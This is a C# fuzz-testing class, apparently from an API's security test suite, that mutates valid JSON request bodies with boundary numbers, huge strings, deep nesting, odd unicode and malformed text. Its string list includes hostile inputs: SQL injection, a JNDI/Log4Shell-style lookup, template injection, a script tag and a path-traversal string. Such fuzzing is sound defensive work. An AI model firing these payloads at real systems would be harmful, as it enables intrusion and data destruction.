using System.Text;
using System.Text.Json.Nodes;

namespace LoyaltyGrid.Security.Tests.Fuzz;

/// <summary>
/// Seeded mutations of a valid JSON body: fields deleted, duplicated, renamed or added; values
/// swapped for other types, boundary numbers (as raw JSON text, so NaN, 1e400 and 01 reach the
/// server as written), hostile strings, unicode and control characters, huge strings, deep
/// nesting; and, on the text, truncation and stray characters. Everything comes from one
/// <see cref="Random"/>, so a seed and a case number give the same request again.
/// </summary>
public sealed class Mutator(Random random)
{
    private const string RawMarker = "\u0001raw:";

    private static readonly string[] RawNumbers =
    [
        "0", "-0", "1", "-1", "0.01", "0.001", "1.005", "59.9", "59.90", "1e2", "1E-2", "1e400", "-1e400", "NaN", "Infinity", "-Infinity",
        "1000000000000", "1000000000000.01", "999999999999.99", "9223372036854775807", "9223372036854775808", "-9223372036854775809",
        "2147483647", "2147483648", "4.9e-324", "1.7976931348623157e308", "79228162514264337593543950335", "79228162514264337593543950336",
        "0.1e1", "00", "01", ".5", "5.", "+1", "0x10", "1_000", "5", "4", "3", "12.34", "-12.34", "1e-400",
    ];

    private static readonly string[] Strings =
    [
        "", " ", "a", "null", "true", "0", "-1", "NaN", "Infinity", "1e400", "EUR", "USD", "GBP", "XXX", "eur", "DE", "US", "ZZ", "de",
        "purchase", "visit", "refund", "complaint", "review", "referral", "redemption", "logistics", "quality", "payment",
        "2026-11-22T10:00:00Z", "2026-11-22T10:00:00+14:00", "2026-11-22T10:00:00-12:00", "1970-01-01T00:00:00Z", "9999-12-31T23:59:59Z",
        "0001-01-01T00:00:00Z", "2026-02-29T00:00:00Z", "2024-02-29T12:00:00Z", "2026-11-22T10:00:00.1234567Z", "2026-11-22T10:00:00",
        "' OR '1'='1", "'; DROP TABLE grain_state; --", "${jndi:ldap://example.invalid/a}", "{{7*7}}", "<script>alert(1)</script>",
        "../../etc/passwd", "%00", "%2F", "\\", "\"", "\u0000", "\n", "\r\n", "\t", "\u007F", "\u0085", "\u2028", "\uFEFF", "\u200B",
        "\u202E", "\uD800", "\uDFFF", "\uFFFF", "😀", "𝄞", "Ω", "é", "e\u0301", "ß", "İ", "中文", "עברית", "ǅ",
    ];

    private static readonly char[] StrayCharacters = ['{', '}', '[', ']', ',', ':', '"', '\\', '\u0000', '\u0001', '\u001F', '\n', ' ', '\u00A0', '\uFEFF', '/', '*', '\''];

    private readonly List<string> _raws = [];

    public string Mutate(JsonObject valid)
    {
        _raws.Clear();
        JsonNode? root = valid.DeepClone();
        var duplicates = new List<string>();
        var mutations = 1 + random.Next(3);
        for (var step = 0; step < mutations; step++)
        {
            root = MutateTree(root, duplicates);
        }

        var text = root?.ToJsonString() ?? "null";
        for (var index = 0; index < _raws.Count; index++)
        {
            text = text.Replace($"\"{Escaped(RawMarker)}{index}\"", _raws[index], StringComparison.Ordinal);
        }

        foreach (var field in duplicates)
        {
            var marker = $"\"{field}\":";
            var at = text.IndexOf(marker, StringComparison.Ordinal);
            if (at >= 0)
            {
                text = text.Insert(at, $"{marker}{AnyScalar()},");
            }
        }

        return random.Next(8) == 0 ? MutateText(text) : text;
    }

    /// <summary>A string for a route segment or query value: the valid one, or a mutation of it.</summary>
    public string MutateString(string valid) => random.Next(4) switch
    {
        0 => Pick(Strings),
        1 => valid[..random.Next(valid.Length + 1)],
        2 => valid.Insert(random.Next(valid.Length + 1), Pick(Strings.Where(s => s.Length > 0 && !s.Any(char.IsAsciiLetterOrDigit)).ToArray())),
        _ => random.Next(10) == 0 ? new string('a', 129 + random.Next(5000)) : valid + Pick(StrayCharacters),
    };

    /// <summary>The valid string with hostile characters added: never another valid id.</summary>
    public string Corrupt(string valid) => random.Next(2) == 0
        ? valid.Insert(random.Next(valid.Length + 1), Pick(Strings.Where(s => s.Length > 0 && !s.Any(char.IsAsciiLetterOrDigit) && s != "-").ToArray()))
        : valid + new string('a', 129);

    private JsonNode? MutateTree(JsonNode? root, List<string> duplicates)
    {
        var slots = new List<(JsonNode Parent, string? Key, int Index)>();
        Collect(root, slots);
        if (slots.Count == 0 || random.Next(20) == 0)
        {
            return AnyValue(depth: 0);
        }

        var (parent, key, index) = slots[random.Next(slots.Count)];
        var current = key is not null ? parent[key] : parent[index];
        switch (random.Next(10))
        {
            case 0:
                Remove(parent, key, index);
                break;
            case 1 when key is not null:
                duplicates.Add(key);
                break;
            case 2 when key is not null:
                var value = current?.DeepClone();
                ((JsonObject)parent).Remove(key);
                ((JsonObject)parent)[Rename(key)] = value;
                break;
            case 3 when parent is JsonObject extra:
                extra[Pick(["extra", "balance", "storefront", "type", "__proto__", "constructor", "$type", key ?? "x"]) + (random.Next(2) == 0 ? "" : "2")] = AnyValue(depth: 0);
                break;
            case 4:
                Set(parent, key, index, Nest(current?.DeepClone(), 1 + random.Next(random.Next(4) == 0 ? 40 : 4)));
                break;
            case 5:
                Set(parent, key, index, Raw(Pick(RawNumbers)));
                break;
            case 6 when current is JsonValue text && text.TryGetValue<string>(out var s):
                Set(parent, key, index, JsonValue.Create(MutateString(s)));
                break;
            case 7:
                Set(parent, key, index, JsonValue.Create(HugeString()));
                break;
            default:
                Set(parent, key, index, AnyValue(depth: 0));
                break;
        }

        return root;
    }

    private static void Collect(JsonNode? node, List<(JsonNode Parent, string? Key, int Index)> slots)
    {
        switch (node)
        {
            case JsonObject obj:
                foreach (var (name, child) in obj.ToList())
                {
                    slots.Add((obj, name, -1));
                    Collect(child, slots);
                }

                break;
            case JsonArray array:
                for (var index = 0; index < array.Count; index++)
                {
                    slots.Add((array, null, index));
                    Collect(array[index], slots);
                }

                break;
        }
    }

    private static void Remove(JsonNode parent, string? key, int index)
    {
        if (key is not null)
        {
            ((JsonObject)parent).Remove(key);
        }
        else
        {
            ((JsonArray)parent).RemoveAt(index);
        }
    }

    private static void Set(JsonNode parent, string? key, int index, JsonNode? value)
    {
        if (key is not null)
        {
            parent[key] = value;
        }
        else
        {
            parent[index] = value;
        }
    }

    private string Rename(string key) => random.Next(4) switch
    {
        0 => key.ToUpperInvariant(),
        1 => char.ToUpperInvariant(key[0]) + key[1..],
        2 => key + " ",
        _ => key[..^1],
    };

    private JsonNode? Nest(JsonNode? value, int depth)
    {
        for (var level = 0; level < depth; level++)
        {
            value = random.Next(2) == 0 ? new JsonArray(value) : new JsonObject { ["v"] = value };
        }

        return value;
    }

    private JsonNode? AnyValue(int depth) => random.Next(depth > 2 ? 5 : 7) switch
    {
        0 => null,
        1 => JsonValue.Create(random.Next(2) == 0),
        2 => Raw(Pick(RawNumbers)),
        3 => JsonValue.Create(Pick(Strings)),
        4 => JsonValue.Create(random.Next(-10, 1_000_000)),
        5 => new JsonArray(Enumerable.Range(0, random.Next(3)).Select(_ => AnyValue(depth + 1)).ToArray()),
        _ => new JsonObject(Enumerable.Range(0, random.Next(3)).Select(n => KeyValuePair.Create($"k{n}", AnyValue(depth + 1)))),
    };

    private string AnyScalar() => random.Next(3) switch
    {
        0 => "null",
        1 => Pick(RawNumbers),
        _ => System.Text.Json.JsonSerializer.Serialize(Pick(Strings)),
    };

    private string HugeString()
    {
        // Mostly under the 1 MiB body limit (so validation sees it), sometimes over it (413).
        // Characters JSON escapes take six bytes each, so they come in shorter runs.
        return random.Next(3) switch
        {
            0 => new string(Pick(['é', '\u0000', '中', '\n']), 129 + random.Next(2_000)),
            1 when random.Next(5) == 0 => new string('x', 1_048_576 + random.Next(10_000)),
            _ => new string('x', 129 + random.Next(random.Next(10) == 0 ? 200_000 : 5_000)),
        };
    }

    private JsonValue Raw(string text)
    {
        _raws.Add(text);
        return JsonValue.Create($"{RawMarker}{_raws.Count - 1}");
    }

    private string MutateText(string text)
    {
        var at = random.Next(text.Length + 1);
        return random.Next(4) switch
        {
            0 => text[..at],
            1 => text.Insert(at, Pick(StrayCharacters).ToString()),
            2 when at < text.Length => text.Remove(at, 1),
            _ => text + Pick(["}", "]", ",", " x", "\u0000", "{}"]),
        };
    }

    private T Pick<T>(T[] choices) => choices[random.Next(choices.Length)];

    private static string Escaped(string marker) => System.Text.Json.JsonSerializer.Serialize(marker)[1..^1];
}
